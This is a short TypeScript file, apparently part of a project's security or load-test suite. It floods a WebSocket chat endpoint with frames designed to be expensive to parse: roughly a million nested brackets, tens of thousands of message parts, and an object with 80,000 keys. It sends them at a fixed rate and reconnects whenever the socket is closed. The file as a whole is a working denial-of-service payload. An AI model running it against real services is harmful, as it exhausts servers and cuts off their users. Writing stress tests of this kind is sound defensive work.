import { setTimeout as delay } from 'node:timers/promises'
import type { WebSocket } from 'ws'
import { attack, openSocket, scaled } from './attacker.ts'

// Frames that cost the most to parse, 25 a second on one socket, and another one as soon as it is closed.

const PAUSE_MS = 40
const FRAMES = scaled(125)
const opening = '{"type":"send","requestId":"r","id":"c","trigger":"submit-message","messages":'

const frames = [
  `${'['.repeat(520_000)}${']'.repeat(520_000)}`,
  `${opening}[{"role":"user","parts":[${Array(26_000).fill('{"type":"text","text":""}').join()}]}]}`,
  `${opening}{${Array.from({ length: 80_000 }, (_, at) => `"k${at}":1`).join()}}}`,
]

await attack(async () => {
  let socket: WebSocket = await openSocket()
  return async () => {
    for (let sent = 0; sent < FRAMES; sent += 1) {
      if (socket.readyState !== socket.OPEN) socket = await openSocket()
      socket.send(frames[sent % frames.length] ?? '')
      await delay(PAUSE_MS)
    }
  }
})
